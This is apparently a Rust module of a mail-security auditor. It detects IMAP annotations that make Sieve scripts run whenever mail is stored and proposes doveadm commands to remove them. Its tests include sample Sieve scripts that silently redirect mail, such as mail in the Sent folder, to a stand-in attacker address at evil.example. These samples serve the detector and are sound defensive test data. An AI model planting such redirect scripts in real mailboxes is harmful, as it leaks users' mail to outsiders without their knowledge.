//! Annotations that make a script run when mail is stored (RFC 6785).

use mailwarden_evidence::{Fact, Observation};

use crate::brief::Brief;
use crate::draft::Draft;
use crate::remediation::on_surface;
use crate::severity::{Act, Destination, Weight};
use crate::shell::word;
use crate::wording::{joined, shown};
use crate::{Beneficiary, BeneficiaryKind, Confidence, Locator, State};

const SURFACE: &str = "imap.metadata";
/// RFC 6785, where Dovecot keeps the server's own annotation under a longer name with the same end; and the
/// script that Cyrus runs for mail to a shared mailbox.
const ENTRY_ENDS: [&str; 2] = ["imapsieve/script", "cyrus-imapd/sieve"];

/// Servers run only what the shared entry names; the private one is a reader's own note.
fn runs_scripts(entry: &str) -> bool {
    let entry = entry.to_lowercase();
    !entry.starts_with("/private/") && ENTRY_ENDS.iter().any(|end| entry.ends_with(end))
}

/// A script that runs when mail is stored, and where.
pub(crate) struct StoreTrigger<'a> {
    pub(crate) folder: &'a str,
    pub(crate) entry: &'a str,
    pub(crate) script: &'a str,
    pub(crate) seen: &'a Observation,
}

/// The triggers of all mailboxes; an empty value is none.
pub(crate) fn triggers<'a>(brief: &Brief<'a>) -> Vec<StoreTrigger<'a>> {
    let trigger = |seen: &'a Observation| match &seen.fact {
        Fact::Metadata { folder, entry, value } if runs_scripts(entry) && !value.trim().is_empty() => {
            Some(StoreTrigger { folder, entry, script: value.trim(), seen })
        }
        _ => None,
    };
    brief.observations.iter().filter_map(trigger).collect()
}

pub(crate) fn check(brief: &Brief<'_>) -> Vec<Draft> {
    triggers(brief).iter().map(|trigger| draft(brief, trigger)).collect()
}

/// What is known of the script a trigger names.
enum Named {
    /// The mailbox has it; what it does is judged with the other scripts.
    Found,
    /// The whole script store was read and holds none of that name.
    Gone,
    /// The script store was not read.
    Unseen,
}

fn named(brief: &Brief<'_>, trigger: &StoreTrigger<'_>) -> Named {
    let mailbox = &trigger.seen.mailbox;
    let is_it = |seen: &Observation| {
        let name_fits = matches!(&seen.fact, Fact::SieveScript { name, .. } if name == trigger.script);
        name_fits && seen.mailbox.eq_ignore_ascii_case(mailbox)
    };
    if brief.observations.iter().any(is_it) {
        Named::Found
    } else if brief.has_seen_all(mailbox, "managesieve.scripts") {
        Named::Gone
    } else {
        Named::Unseen
    }
}

fn draft(brief: &Brief<'_>, trigger: &StoreTrigger<'_>) -> Draft {
    let (mailbox, script) = (&trigger.seen.mailbox, shown(trigger.script));
    let place = place(trigger.folder);
    let (state, note) = match named(brief, trigger) {
        Named::Found => (State::Active, format!("the findings on script \"{script}\" say what it does")),
        Named::Gone => {
            (State::Orphan, format!("the mailbox has no script \"{script}\" now; a new one would run"))
        }
        Named::Unseen => {
            (State::Active, format!("script \"{script}\" was not read, so what it does is unknown"))
        }
    };
    let weight = Weight {
        leaver: brief.owner_left(mailbox),
        life: if state == State::Orphan {
            crate::severity::Life::Asleep
        } else {
            crate::severity::Life::Acting
        },
        ..Weight::new(Act::Run, Destination::Nobody)
    };
    Draft {
        check_id: "imapsieve.script",
        title: format!("Script \"{script}\" runs whenever mail is stored in {place} of {mailbox}."),
        severity: weight.severity(),
        confidence: Confidence::High,
        state,
        mailbox: mailbox.clone(),
        surface: trigger.seen.surface.clone(),
        locator: Locator {
            script: Some(trigger.script.to_owned()),
            folder: Some(trigger.folder.to_owned()),
            key: Some(trigger.entry.to_owned()),
            ..Locator::default()
        },
        identity: vec![trigger.folder.to_owned(), trigger.entry.to_lowercase(), "run".to_owned()],
        content: vec![trigger.script.as_bytes().to_vec()],
        effects: vec!["run".to_owned()],
        beneficiary: Beneficiary { kind: BeneficiaryKind::Command, value: script.clone(), person: None },
        path: vec![mailbox.clone(), format!("annotation of {place}"), format!("Sieve script \"{script}\"")],
        conditions: joined(&[format!("when mail is stored, copied or flagged in {place}"), note]),
        evidence: vec![trigger.seen.evidence.clone()],
        remediation: remediation(mailbox, trigger),
    }
}

fn place(folder: &str) -> String {
    if folder.is_empty() { "any folder".to_owned() } else { format!("folder \"{}\"", shown(folder)) }
}

fn remediation(mailbox: &str, trigger: &StoreTrigger<'_>) -> crate::Remediation {
    let server = if trigger.folder.is_empty() { "-s " } else { "" };
    let (owner, folder, entry) = (word(mailbox), word(trigger.folder), word(trigger.entry));
    let command = format!("doveadm mailbox metadata unset {server}-u {owner} {folder} {entry}");
    let revert =
        format!("doveadm mailbox metadata set {server}-u {owner} {folder} {entry} {}", word(trigger.script));
    on_surface(SURFACE, command, revert, None)
}

#[cfg(test)]
mod tests {
    use mailwarden_evidence::CoverageState;

    use super::*;
    use crate::testing::{ids, judged, observed, script};

    fn annotation(mailbox: &str, folder: &str, value: &str) -> Observation {
        let entry = "/shared/imapsieve/script".to_owned();
        let fact = Fact::Metadata { folder: folder.to_owned(), entry, value: value.to_owned() };
        observed(mailbox, SURFACE, fact)
    }

    #[test]
    fn a_set_annotation_is_found_and_an_empty_one_is_not() {
        let seen =
            [annotation("jane@example.test", "Sent", "fwd2"), annotation("jane@example.test", "", " ")];
        let report = judged(&seen, &[]);
        assert_eq!(ids(&report), ["imapsieve.script fwd2 high"]);
        assert_eq!(report.findings[0].state, State::Active);
        let command = "doveadm mailbox metadata unset -u jane@example.test Sent /shared/imapsieve/script";
        assert_eq!(report.findings[0].remediation.command, command);
    }

    #[test]
    fn a_script_that_no_longer_exists_is_an_orphan() {
        let covered = [("jane@example.test", "managesieve.scripts", CoverageState::Collected)];
        let report = judged(&[annotation("jane@example.test", "", "fwd2")], &covered);
        assert_eq!(report.findings[0].state, State::Orphan);
        assert_eq!(ids(&report), ["imapsieve.script fwd2 medium"]);
    }

    #[test]
    fn the_script_it_names_acts_although_it_is_not_active() {
        let seen = [
            annotation("jane@example.test", "Sent", "fwd2"),
            script("jane@example.test", "fwd2", false, "redirect \"x@evil.example\";"),
        ];
        let report = judged(&seen, &[]);
        assert_eq!(
            ids(&report),
            ["imapsieve.script fwd2 high", "sieve.redirect-external x@evil.example high"]
        );
        let redirect = report.findings.iter().find(|finding| finding.check_id.starts_with("sieve")).unwrap();
        assert_eq!(redirect.state, State::Active);
        assert!(redirect.conditions.contains("stored in folder \"Sent\""), "{}", redirect.conditions);
    }

    #[test]
    fn a_script_acts_as_the_events_of_its_folder_let_it() {
        let source = "require [\"environment\", \"imapsieve\"];\n\
                      if environment :is \"imap.mailbox\" \"Sent\" { redirect \"x@evil.example\"; }\n";
        let of = |folder: &str| {
            let seen = [
                annotation("jane@example.test", folder, "fwd2"),
                script("jane@example.test", "fwd2", false, source),
            ];
            let report = judged(&seen, &[]);
            let redirect = report.findings.iter().find(|found| found.check_id == "sieve.redirect-external");
            redirect.map(|found| found.state)
        };
        assert_eq!(of("Sent"), Some(State::Active));
        assert_ne!(of("Drafts"), Some(State::Active), "it never runs for that folder");
        assert_eq!(of(""), Some(State::Active), "any folder may be the one");
    }
}
